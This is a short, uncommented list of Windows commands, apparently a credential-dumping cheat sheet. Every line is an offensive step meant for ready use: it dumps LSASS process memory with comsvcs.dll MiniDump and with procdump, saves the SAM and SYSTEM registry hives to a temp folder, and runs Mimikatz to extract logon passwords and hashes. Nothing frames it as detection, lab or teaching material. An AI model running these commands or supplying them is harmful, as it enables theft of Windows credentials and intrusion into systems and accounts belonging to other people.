$lsass = Get-Process -Name lsass
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id C:\Windows\Temp\lsass.dmp full
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
reg save HKLM\SAM C:\Windows\Temp\sam.hiv
reg save HKLM\SYSTEM C:\Windows\Temp\system.hiv
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'
